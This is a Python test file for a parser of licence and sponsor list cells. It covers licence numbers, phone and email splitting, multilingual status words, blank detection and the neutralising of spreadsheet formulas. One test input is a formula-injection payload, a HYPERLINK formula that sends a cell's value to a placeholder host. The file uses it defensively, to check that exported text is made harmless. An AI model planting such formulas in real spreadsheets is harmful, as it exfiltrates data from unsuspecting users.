"""Single values of a list: licence numbers, phones, addresses, status words, blanks, formulas."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iris.rules.lists import bare_number, licence_candidates, licence_key, neutralise, undo_neutralised
from iris.rules.lists.blanks import is_blank, tidy
from iris.rules.lists.contacts import split_emails, split_phones
from iris.rules.lists.states import SEVERITY, read_status
from iris.rules.status import State


def test_numbers_find_each_other_in_the_forms_people_type():
    stored = licence_key("0010")
    for typed in ("0010", "10", "RL-0010", "RL 0010", "rl0010", "Licence No. 0010", "০০১০"):
        assert stored in licence_candidates(typed), typed
    assert bare_number("RL-0010") == bare_number("10") == "10"


def test_numbers_that_differ_stay_apart():
    assert licence_key("1-23") != licence_key("12-3")
    assert licence_key("A10") != licence_key("B10")
    assert licence_key("100") != licence_key("10")
    assert licence_key("000") == "0"
    assert licence_candidates("") == ()


@pytest.mark.parametrize(
    ("cell", "phones"),
    [
        ("9830881, 9830884 ( Off.)", ("9830881", "9830884")),
        ("48318901-03 (PABX) (Off.), 9857669", ("48318901", "48318902", "48318903", "9857669")),
        ("0112237887,88,89, 0773040000", ("0112237887", "0112237888", "0112237889", "0773040000")),
        ("68810000 / 96680000", ("68810000", "96680000")),
        ("(02) 86818959/09178870000", ("(02) 86818959", "09178870000")),
        ("86470-716 / 7001-9618", ("86470-716", "7001-9618")),
        ("Tel: +977 1 4411578\nFax", ("+977 1 4411578",)),
        ("4411578 or 4411579", ("4411578", "4411579")),
        ("০১৭১১১২৩৪৫৬", ("01711123456",)),
        ("9339551, 9339552 (Dhk. Off.), 78563 (Bogra Off.)", ("9339551", "9339552", "78563")),
        ("9841556677 9841556678", ("9841556677", "9841556678")),
        ("98 4155 6677, 021 345 678", ("98 4155 6677", "021 345 678")),
        ("1280", ("1280",)),
        ("****", ()),
        ("none", ()),
        ("", ()),
    ],
)
def test_phones_in_one_cell(cell, phones):
    assert split_phones(cell) == phones


def test_addresses_in_one_cell():
    assert split_emails("a@x.example/b@x.example") == ("a@x.example", "b@x.example")
    assert split_emails("A <a@x.example>; a@x.example") == ("a@x.example",)
    assert split_emails("a@gmail") == ("a@gmail",)
    assert split_emails("***") == ()


@pytest.mark.parametrize(
    ("text", "state"),
    [
        ("Valid License", State.VALID),
        ("Valid License - Provisional", State.CONDITIONAL),
        ("Expired", State.EXPIRED),
        ("CANCELLED", State.REVOKED),
        ("Delisted", State.REVOKED),
        ("Denied Renewal", State.REVOKED),
        ("Forever Banned", State.BANNED),
        ("Ceased Operations", State.SURRENDERED),
        ("Inactive", State.EXPIRED),
        ("Suspended (2026-03-01)", State.SUSPENDED),
        ("Worker (A rating)", State.VALID),
        ("Tier 2 (A (Premium)) / Tier 5 (A (SME+))", State.VALID),
        ("Worker (B rating)", State.CONDITIONAL),
        ("Worker (A rating) / Worker (B rating)", State.CONDITIONAL),
        ("Worker (Probationary Sponsor)", State.CONDITIONAL),
        ("Vigente", State.VALID),
        ("বাতিল", State.REVOKED),
        ("निलम्बित", State.SUSPENDED),
        ("منتهي الصلاحية", State.EXPIRED),
        ("有效", State.VALID),
        ("unknown", State.UNKNOWN),
    ],
)
def test_status_words(text, state):
    assert read_status(text).state is state


@pytest.mark.parametrize(
    "text", ["Not valid", "Valid?", "Tier 2 (Probationary Spon", "Suspended pending appeal", "Invalid"]
)
def test_a_status_is_never_guessed(text):
    if text == "Valid?":
        assert read_status(text).state is State.VALID
    else:
        assert read_status(text).state is None


def test_a_torn_part_of_a_status_is_said():
    reading = read_status("rovince/D / Tier 2 (A rating)")
    assert reading.state is State.VALID
    assert reading.unread == ("rovince/D",)


def test_every_state_has_its_place_in_severity():
    assert set(SEVERITY) == set(State) - {State.REINSTATED, State.VOID}


@pytest.mark.parametrize("cell", ["", " ", "\u00a0", "\u200b\ufeff", "\t\r\n", "\u3000"])
def test_nothing_to_see_is_blank(cell):
    assert is_blank(cell)


def test_tidying_changes_no_letter():
    assert tidy(" A.\u00a0\u00a0 Zimmerman &\tSons ") == "A. Zimmerman & Sons"
    assert tidy("Co\u0302te") == "C\u00f4te"
    assert tidy("]performance s p a c e [") == "]performance s p a c e ["


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1)',
        "@ Home Accommodation Services Ltd",
        "+977 1 4411578",
        "-1",
        " =1+1",
        "\u00a0\u200b=1+1",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
        "\x00=1",
    ],
)
def test_a_text_a_spreadsheet_could_run_is_made_harmless(text):
    assert neutralise(text) == "'" + text
    assert undo_neutralised(neutralise(text)) == text


def test_ordinary_texts_are_left_alone():
    for text in ("Orchard - Dhaka", "'s-Hertogenbosch BV", "0010", "", "A=B", "’Tis"):
        assert neutralise(text) == text
        assert undo_neutralised(text) == text


@given(st.text(alphabet=" '=+-@\t\n\u00a0\u200bAb0", max_size=8))
def test_export_and_import_give_back_every_text(text):
    assert undo_neutralised(neutralise(text)) == text
